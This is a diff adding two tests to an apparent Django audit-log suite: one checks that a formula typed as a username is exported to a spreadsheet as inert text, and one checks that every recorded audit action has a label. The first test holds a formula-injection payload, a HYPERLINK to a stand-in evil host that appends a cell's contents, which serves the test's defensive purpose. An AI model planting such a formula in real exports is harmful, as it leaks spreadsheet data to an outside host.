@@ -56,3 +56,32 @@ def test_audit_events_cannot_be_changed_or_deleted(events):
         event.save()
     with pytest.raises(ValidationError):
         event.delete()
+
+
+def test_a_formula_typed_as_a_user_name_is_exported_as_text(people, client_for):
+    audit_record(
+        action=AuditEvent.Action.LOGIN_FAILED, username='=HYPERLINK("http://evil.example/"&A2,"x")', result="failure"
+    )
+    response = client_for(people.admin).get(reverse("audit_export"))
+    names = [cell for cell in load_workbook(BytesIO(response.content)).active["B"] if "HYPERLINK" in str(cell.value)]
+    assert [(cell.data_type, cell.value[:11]) for cell in names] == [("s", "'=HYPERLINK")]
+
+
+def test_every_action_the_code_records_has_a_label():
+    import re
+    from pathlib import Path
+
+    from filings.workflow import TABLES
+    from portal.models import Role
+
+    root = Path(__file__).resolve().parents[2]
+    written = set()
+    for path in [*root.glob("portal/**/*.py"), *root.glob("agencies/**/*.py"), *root.glob("filings/**/*.py")]:
+        written |= set(re.findall(r'audit_record\(\s*action="([a-z_]+)"', path.read_text(), re.S))
+        written |= set(re.findall(r'\baction="([a-z_]+)",\s*(?:request|actor)', path.read_text()))
+    # Officials' steps are recorded as application_<transition> (filings.services.review); the agency's own
+    # steps (submit, withdraw) by their services under the names found above.
+    written |= {
+        f"application_{t.name}" for table in TABLES.values() for t in table if t.target and t.role != Role.AGENCY
+    }
+    assert sorted(written - set(AuditEvent.Action.values)) == []
